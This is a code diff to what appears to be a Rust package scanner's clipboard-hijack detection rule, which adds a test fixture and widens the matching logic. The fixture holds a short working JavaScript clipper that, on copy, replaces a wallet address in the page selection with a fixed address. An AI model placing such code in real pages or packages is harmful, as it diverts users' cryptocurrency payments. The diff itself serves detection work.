@@ -53,6 +53,23 @@ setInterval(() => {
             ],
         },
         Example {
+            name: "what is copied from a page becomes another address",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"document.addEventListener("copy", (event) => {
+  const next = String(getSelection()).replace(/0x[a-fA-F0-9]{40}/, "0x00000000000000000000000000000000000f1c0d");
+  event.clipboardData.setData("text/plain", next);
+});"#,
+                ),
+            ],
+        },
+        Example {
             name: "a clipboard tool",
             severity: None,
             files: &[
@@ -138,13 +155,21 @@ fn swap(context: &Context<'_>) -> Option<Finding> {
             .filter(move |one| one.what.id == id);
         all.filter(|one| !one.reach.is_dormant())
     };
-    of("clipboard.read").next()?;
+    // What a page's listener puts in the place of a selection it has read before.
+    let replaces = |one: &&Behaviour| one.target.as_deref() == Some("selection");
+    let swapped = of("clipboard.write").find(replaces);
+    if swapped.is_none() {
+        of("clipboard.read").next()?;
+    }
     let mut writes = of("clipboard.write");
     let first = writes.next()?;
     if !holds_address(context) {
         return None;
     }
-    let message = "reads the clipboard and writes it again, and holds addresses of wallets";
+    let message = match swapped {
+        Some(_) => "changes what is copied from a page, and holds addresses of wallets",
+        None => "reads the clipboard and writes it again, and holds addresses of wallets",
+    };
     let mut finding = Finding::of_behaviour(&FINDING, first, message.to_owned());
     for other in writes {
         finding.reach.join(other.reach);
